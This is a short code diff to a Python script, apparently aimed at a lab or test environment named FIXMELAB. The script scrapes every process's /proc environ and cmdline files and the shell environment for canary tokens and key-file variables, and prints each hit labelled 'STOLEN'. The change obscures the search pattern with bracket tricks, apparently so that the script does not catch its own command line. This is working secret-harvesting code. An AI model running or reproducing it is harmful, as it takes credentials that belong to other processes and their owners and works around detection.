@@ -28,7 +28,7 @@ for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + ["/etc
     except OSError:
         pass
 texts.append(subprocess.run(["env"], capture_output=True, text=True).stdout)
-for found in re.findall(r"canary-[0-9a-f]{8,}|FIXMELAB_KEY_FILE=\S+|FIXMELAB_CANARY\S*", "\n".join(texts)):
+for found in re.findall(r"canary-[0-9a-f]{8,}|FIXMELAB_KEY[_]FILE=\S+|FIXMELAB_CAN[A]RY=\S+", "\n".join(texts)):
     print("STOLEN", found)
 
 
